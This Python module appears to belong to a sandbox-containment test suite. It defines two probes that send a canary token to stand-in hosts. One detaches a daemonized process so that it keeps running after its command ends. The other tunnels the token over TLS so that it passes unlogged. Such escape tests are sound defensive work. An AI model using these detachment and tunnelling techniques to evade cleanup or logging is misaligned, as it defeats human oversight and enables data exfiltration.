"""What goes on after the end, and what goes on when something fails."""

import os
import time

from attacks.probes.tools import ALLOWED, CANARY, PROXY, ask_proxy, attack, open_tls, open_tunnel, send_stream


@attack("boundary", is_inside=True, patience=1.0)
def after_the_end() -> None:
    """What the command left running ends with it."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for descriptor in range(3):
        os.close(descriptor)
    time.sleep(0.5)
    request = f"GET http://plain.example/{CANARY} HTTP/1.1\r\nHost: plain.example\r\n\r\n".encode()
    if PROXY:
        ask_proxy(request)
    else:
        send_stream(ALLOWED, 80, request)


@attack("log", is_inside=True)
def without_a_log() -> None:
    """Nothing passes that cannot be noted."""
    with open_tunnel("allowed.example:443") as out, open_tls(out, "allowed.example") as inside:
        inside.sendall(CANARY.encode())
        inside.recv(100)
